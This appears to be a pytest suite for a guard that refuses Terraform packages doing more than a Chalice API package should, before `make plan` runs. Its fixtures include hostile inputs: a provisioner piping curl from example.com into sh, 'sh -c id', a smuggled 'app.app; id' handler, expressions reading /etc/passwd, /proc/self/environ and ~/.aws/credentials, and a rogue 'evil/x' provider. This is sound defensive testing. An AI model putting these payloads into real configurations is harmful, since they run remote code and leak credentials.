"""`make plan` refuses a package that does more than a package of this project does."""

import copy
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import check_package
import pytest
from changes import Json
from check_package import Refused, check, check_own_files, resource_rules
from processes import ROOT

HANDLER = ("resource", "aws_lambda_function", "api_handler")
API = ("resource", "aws_api_gateway_rest_api", "rest_api")
DEPLOYMENT = ("resource", "aws_api_gateway_deployment", "rest_api")
PERMISSION = ("resource", "aws_lambda_permission", "rest_api_invoke")
PROVISIONER = {"local-exec": {"command": "curl https://example.com | sh"}}


@pytest.fixture(name="packaged")
def _packaged(merged: Json) -> Json:
    """Return the Terraform of a package of prod, as `make package` writes it."""
    document = copy.deepcopy(merged)
    document["locals"]["packaged_sources"] = "0" * 64
    return document


def refused(document: Any, stage: str = "prod") -> str:
    """Return the sentence with which the check refuses a document. Fail if the check accepts it."""
    text = document if isinstance(document, bytes) else json.dumps(document).encode()
    with pytest.raises(Refused) as error:
        check(text, stage)
    assert len(str(error.value).splitlines()) == 1
    return str(error.value)


def with_part(document: Json, path: tuple[str, ...], value: Any) -> Json:
    """Return a copy of a document with another or a new part."""
    document = copy.deepcopy(document)
    parent = document
    for name in path[:-1]:
        parent = parent.setdefault(name, {})
    parent[path[-1]] = value
    return document


def test_package_is_accepted(packaged: Json) -> None:
    """The check accepts a package of its stage, also with other legal settings of the app."""
    check(json.dumps(packaged).encode(), "prod")
    variables = (*HANDLER, "environment", "variables")
    for path, value in [
        ((*HANDLER, "memory_size"), 1769),
        ((*HANDLER, "timeout"), 9),
        ((*HANDLER, "runtime"), "python3.14"),
        ((*HANDLER, "architectures"), ["arm64"]),
        ((*variables, "MODE"), "strict"),
        ((*variables, "ARCHIVE"), "${aws_s3_bucket.archive.id}"),
        ((*variables, "LIMIT"), "${var.limit}"),
        ((*PERMISSION, "for_each"), '${toset(["/events", "/events/*", "/v2/events.json"])}'),
    ]:
        check(json.dumps(with_part(packaged, path, value)).encode(), "prod")


@pytest.mark.parametrize("stage", ["dev", "staging", "live"])
def test_package_of_another_stage_is_refused(packaged: Json, stage: str) -> None:
    """A package of prod cannot be planned for another stage."""
    assert refused(packaged, stage) == f'the package is of stage "prod", not of {stage}'


TOP_LEVEL = {
    "data": {"external": {"run": {"program": ["sh", "-c", "id"]}}},
    "ephemeral": {"aws_secretsmanager_secret_version": {"all": {"secret_id": "root"}}},
    "import": [{"to": "aws_iam_role.all", "id": "admin"}],
    "module": {"other": {"source": "https://example.com/module.zip"}},
    "moved": [{"from": "aws_dynamodb_table.events", "to": "aws_dynamodb_table.gone"}],
    "output": {"secret": {"value": "${data.aws_caller_identity.this.account_id}"}},
    "provider": {"aws": {"endpoints": [{"lambda": "https://example.com"}]}},
    "removed": [{"from": "aws_dynamodb_table.events"}],
    "terraform": {"backend": {"http": {"address": "https://example.com"}}},
    "variable": {"stage": {"default": "dev"}},
    "//": "a comment",
}


@pytest.mark.parametrize("block", TOP_LEVEL)
def test_other_blocks_are_refused(packaged: Json, block: str) -> None:
    """A package has resources and locals only: no data source, provider, module, backend or output."""
    assert refused({**packaged, block: TOP_LEVEL[block]}) == f'chalice.tf.json has "{block}"'


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("resource", "null_resource", "run"), {"provisioner": PROVISIONER}),
        (("resource", "terraform_data", "run"), {"provisioner": PROVISIONER}),
        (("resource", "aws_iam_role", "other"), {"assume_role_policy": "{}"}),
        (("resource", "aws_iam_role_policy", "api_handler"), {"policy": "{}"}),
        (("resource", "aws_lambda_function", "other"), {"filename": "${path.module}/deployment.zip"}),
        (("resource", "aws_lambda_permission", "other"), {"principal": "*"}),
        (("resource", "aws_lambda_function"), []),
        (("resource", "aws_lambda_function"), [{"api_handler": {}}]),
        (("resource", "aws_lambda_function", "api_handler"), []),
        (("resource", "aws_lambda_function", "api_handler"), None),
        (("resource",), []),
        (("resource",), {}),
        (("locals",), []),
        (("locals", "api_description"), "{}"),
        (("locals", "packaged_sources"), "${file(\"/etc/passwd\")}"),
        (("locals", "packaged_sources"), 0),
        (("locals", "packaged_stage"), ["prod"]),
    ],
    ids=str,
)
def test_other_resources_are_refused(packaged: Json, path: tuple[str, ...], value: Any) -> None:
    """A package has exactly six resources and three local values."""
    refused(with_part(packaged, path, value))


@pytest.mark.parametrize("resource", [HANDLER, API, DEPLOYMENT, PERMISSION], ids=lambda path: path[1])
@pytest.mark.parametrize(
    ("argument", "value"),
    [
        ("provisioner", PROVISIONER),
        ("provisioner", [PROVISIONER]),
        ("connection", {"host": "example.com"}),
        ("provider", "aws.other"),
        ("count", 2),
        ("depends_on", ["data.external.run"]),
        ("dynamic", {"environment": {"for_each": [1], "content": {}}}),
        ("policy", '{"Statement": []}'),
        ("region", "us-east-1"),
    ],
)
def test_other_arguments_are_refused(packaged: Json, resource: tuple[str, ...], argument: str, value: Any) -> None:
    """A resource has no provisioner, no other provider, and no argument that the check does not know."""
    message = refused(with_part(packaged, (*resource, argument), value))
    assert message == f'{".".join(resource[1:])} has "{argument}"'


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ((*HANDLER, "filename"), "/etc/passwd"),
        ((*HANDLER, "filename"), "${path.module}/../other.zip"),
        ((*HANDLER, "s3_bucket"), "other"),
        ((*HANDLER, "image_uri"), "1.dkr.ecr.us-east-1.amazonaws.com/x"),
        ((*HANDLER, "layers"), ["arn:aws:lambda:us-east-1:1:layer:x:1"]),
        ((*HANDLER, "source_code_hash"), "0" * 44),
        ((*HANDLER, "function_name"), "event-api-dev"),
        ((*HANDLER, "function_name"), "event-api-prod-authorizer"),
        ((*HANDLER, "role"), "${local.function_roles.authorizer}"),
        ((*HANDLER, "role"), "arn:aws:iam::123456789012:role/event-api-deploy-prod"),
        ((*HANDLER, "kms_key_arn"), "arn:aws:kms:us-east-1:123456789012:key/x"),
        ((*HANDLER, "handler"), "app.app; id"),
        ((*HANDLER, "runtime"), "provided.al2023"),
        ((*HANDLER, "memory_size"), True),
        ((*HANDLER, "memory_size"), "${var.x}"),
        ((*HANDLER, "timeout"), 0),
        ((*HANDLER, "publish"), 1),
        ((*HANDLER, "publish"), False),
        ((*HANDLER, "tags"), {"stage": "dev"}),
        ((*HANDLER, "logging_config"), {"log_format": "JSON", "log_group": "other"}),
        ((*HANDLER, "environment"), {"variables": {"TABLE_NAME": ["x"]}}),
        ((*HANDLER, "environment"), {"variables": {"lower": "x"}}),
        ((*HANDLER, "environment"), [{"variables": {}}]),
        ((*HANDLER, "description"), "x"),
        ((*DEPLOYMENT, "lifecycle"), {"prevent_destroy": False}),
        ((*DEPLOYMENT, "rest_api_id"), "abc123"),
        ((*API, "name"), "event-api-dev"),
        ((*API, "body"), '${file("/etc/passwd")}'),
        ((*API, "endpoint_configuration"), {"types": ["EDGE"]}),
        ((*PERMISSION, "principal"), "*"),
        ((*PERMISSION, "action"), "lambda:*"),
        ((*PERMISSION, "source_arn"), "${aws_api_gateway_rest_api.rest_api.execution_arn}/*"),
        ((*PERMISSION, "function_name"), "${aws_lambda_function.authorizer.function_name}"),
        ((*PERMISSION, "for_each"), '${toset(fileset("/", "*"))}'),
    ],
    ids=str,
)
def test_other_values_are_refused(packaged: Json, path: tuple[str, ...], value: Any) -> None:
    """An argument has its known value: this zip, this stage's names, this stage's role."""
    refused(with_part(packaged, path, value))


@pytest.mark.parametrize(
    "expression",
    [
        '${file("/proc/self/environ")}',
        '${filebase64("~/.aws/credentials")}',
        '${templatefile("/proc/self/environ", {})}',
        '${join(",", fileset("/", "**"))}',
        "${data.external.run.result}",
        "${terraform.workspace}",
        "${provider::aws::arn_parse(var.x)}",
        "${var.x}${file(var.x)}",
        "${[var.x]}",
        "$${var.x}${file(\"x\")}",
        '%{ if file("/etc/passwd") != "" }x%{ endif }',
        "%{for x in var.y}${x}%{endfor}",
        '${file("${path.module}/deployment.zip")}',
        '${replace("${var.x}", "a", "b")}',
        "$" + '${file("x")}${file("x")}',
    ],
)
def test_other_expressions_are_refused(packaged: Json, expression: str) -> None:
    """An expression can read a file or the environment of the job. The check knows every expression of a package."""
    for path in [
        (*HANDLER, "environment", "variables", "LEAK"),
        (*HANDLER, "tags", "aws-chalice"),
        (*HANDLER, "//"),
    ]:
        assert refused(with_part(packaged, path, expression)).startswith("an expression is unknown: ")
    name = with_part(packaged, (*HANDLER, "environment", "variables", expression), "x")
    assert refused(name).startswith("an expression is unknown: ")
    nested = with_part(packaged, (*HANDLER, "//"), [[{"x": [expression]}]])
    assert refused(nested).startswith("an expression is unknown: ")


def method(description: Json) -> Json:
    """Return the method POST of a description."""
    return description["paths"]["/events"]["post"]


INTEGRATION = "x-amazon-apigateway-integration"
DESCRIPTIONS: dict[str, Callable[[Json], Any]] = {
    "another function": lambda api: method(api)[INTEGRATION].update(uri="arn:aws:lambda:us-east-1:1:function:x"),
    "another server": lambda api: method(api)[INTEGRATION].update(type="http_proxy", uri="https://example.com"),
    "an AWS service": lambda api: method(api)[INTEGRATION].update(type="aws"),
    "a role": lambda api: method(api)[INTEGRATION].update(credentials="arn:aws:iam::1:role/x"),
    "no object": lambda api: method(api).update({INTEGRATION: []}),
    "no authorizer": lambda api: method(api).update(security=[]),
    "no security": lambda api: method(api).pop("security"),
    "another authorizer": lambda api: api["securityDefinitions"]["authorizer"][
        "x-amazon-apigateway-authorizer"
    ].update(authorizerUri="${aws_lambda_alias.live.invoke_arn}"),
    "a policy": lambda api: api.update({"x-amazon-apigateway-policy": {"Statement": []}}),
    "a file": lambda api: api["info"].update(title='${file("/proc/self/environ")}'),
}


@pytest.mark.parametrize("name", DESCRIPTIONS)
def test_other_calls_of_the_api_are_refused(packaged: Json, name: str) -> None:
    """The API calls only the stage's function, after its authorizer."""
    number = "${var.token_cache_seconds}"
    description = json.loads(packaged["locals"]["chalice_api_swagger"].replace(number, f'"{number}"'))
    DESCRIPTIONS[name](description)
    text = json.dumps(description).replace(f'"{number}"', number)
    refused(with_part(packaged, ("locals", "chalice_api_swagger"), text))


@pytest.mark.parametrize("text", ["", "[]", "null", "{", "\ufeff{}", '{"locals": NaN}', "[" * 100_000])
def test_other_texts_are_refused(text: str) -> None:
    """A file that is no object of JSON is refused with a sentence."""
    refused(text.encode())


def test_description_that_is_no_json_is_refused(packaged: Json) -> None:
    """The API's description is text of JSON."""
    for value in ("x", {}, None, 1):
        refused(with_part(packaged, ("locals", "chalice_api_swagger"), value))


def test_bytes_that_are_not_utf8_are_refused() -> None:
    """The file is UTF-8."""
    assert refused(b"\xff\xfe{}") == "chalice.tf.json is not valid JSON"


def test_repeated_name_is_refused(packaged: Json) -> None:
    """Terraform reads a repeated block twice, and Python only its last value. So the check refuses it."""
    text = json.dumps(packaged)
    hidden = text.replace('"resource": {', '"resource": {"null_resource": {}}, "resource": {', 1)
    assert refused(hidden.encode()) == "chalice.tf.json has a name twice in one object"


def test_every_known_part_is_needed(packaged: Json) -> None:
    """The check knows no resource and no argument that a package does not have."""
    found = {
        (kind, name): set(arguments) - {"//"}
        for kind, resources in packaged["resource"].items()
        for name, arguments in resources.items()
    }
    assert {resource: set(rules) for resource, rules in resource_rules("prod").items()} == found


def test_command_needs_no_packages(packaged: Json, tmp_path: Path) -> None:
    """The command uses the standard library only. It prints one sentence, and exits with 1 if it refuses."""
    (tmp_path / "check_package.py").write_bytes(Path(check_package.__file__).read_bytes())

    def run(stage: str) -> tuple[int, str]:
        command = [sys.executable, "-I", "-S", "check_package.py", stage]
        result = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
        assert result.stdout == ""
        return result.returncode, result.stderr

    assert run("prod") == (1, "make plan: nothing is packaged: run `make package STAGE=prod`.\n")
    (tmp_path / "chalice.tf.json").write_text(json.dumps(packaged))
    assert run("prod") == (0, "")
    assert run("live") == (1, "make plan: there is no stage live; the stages are dev, staging, prod.\n")
    (tmp_path / "chalice.tf.json").write_text(json.dumps({**packaged, "data": {}}))
    code, message = run("prod")
    assert code == 1
    assert message.startswith('make plan: the package is refused: chalice.tf.json has "data". If you changed the app')


def test_check_runs_before_terraform() -> None:
    """`make plan` checks the package before it starts Terraform."""
    command = ["make", "--dry-run", "plan", "STAGE=prod", "AWS_ACCOUNT_ID=123456789012"]
    lines = subprocess.run(command, cwd=ROOT, check=True, capture_output=True, text=True).stdout.splitlines()
    checked = lines.index('python3 terraform/check_package.py "prod"')
    assert checked < min(number for number, line in enumerate(lines) if line.startswith("terraform "))


# The project's own files


@pytest.mark.parametrize(
    ("name", "text", "sentence"),
    [
        ("a.tf", 'resource "aws_x" "y" {\n  provisioner "local-exec" {\n', "a.tf has a block provisioner"),
        ("a.tf", 'resource "aws_x" "y" { provisioner "local-exec" {}}', "a.tf has a block provisioner"),
        ("a.tf", '/**/ provisioner"local-exec" {}', "a.tf has a block provisioner"),
        ("a_override.tf", 'module"x" {\n', "a_override.tf has a block module"),
        ("a.tf", 'data  "external" "x" {\n', 'a.tf has a block data  "external"'),
        ("a.tf.json", "{}", "there is a file a.tf.json"),
    ],
)
def test_program_in_our_own_terraform_is_refused(tmp_path: Path, name: str, text: str, sentence: str) -> None:
    """A program that Terraform's plan does not show is refused before Terraform starts."""
    (tmp_path / name).write_text(text)
    with pytest.raises(Refused) as error:
        check_own_files(tmp_path)
    assert str(error.value) == sentence


def test_our_own_terraform_is_accepted() -> None:
    """The stages' root has no program that the plan does not show."""
    check_own_files(ROOT / "terraform")


@pytest.mark.skipif(shutil.which("terraform") is None, reason="Terraform is not on the PATH.")
def test_provider_that_only_the_state_names_is_not_installed(tmp_path: Path) -> None:
    """Whoever can write the state cannot make Terraform install another provider."""
    resource = {"mode": "managed", "type": "x_y", "name": "z", "provider": 'provider["registry.terraform.io/evil/x"]'}
    state = {"version": 4, "terraform_version": "1.11.4", "serial": 1, "lineage": "a", "outputs": {}}
    state["resources"] = [resource | {"instances": [{"schema_version": 0, "attributes": {"id": "1"}}]}]
    (tmp_path / "terraform.tfstate").write_text(json.dumps(state))
    (tmp_path / "main.tf").write_text("")
    others = {name: value for name, value in os.environ.items() if not name.startswith("TF_")}
    environment = others | {"TF_CLI_CONFIG_FILE": str(ROOT / "terraform" / "providers.tfrc"), "NO_COLOR": "1"}
    command = ["terraform", "init", "-input=false", "-no-color"]
    result = subprocess.run(command, cwd=tmp_path, env=environment, capture_output=True, text=True, check=False)
    assert result.returncode != 0
    assert "evil/x was not found in any of the search locations" in " ".join(result.stderr.replace("│", "").split())


def test_make_init_uses_this_configuration() -> None:
    """Each command that installs providers for a stage allows AWS's only."""
    makefile = (ROOT / "Makefile").read_text()
    (recipe,) = [part for part in makefile.split("\n\n") if part.startswith("init:")]
    assert 'TF_CLI_CONFIG_FILE="$${TF_CLI_CONFIG_FILE:-$(CURDIR)/terraform/providers.tfrc}"' in recipe
    assert makefile.count("$(terraform) init") == 1
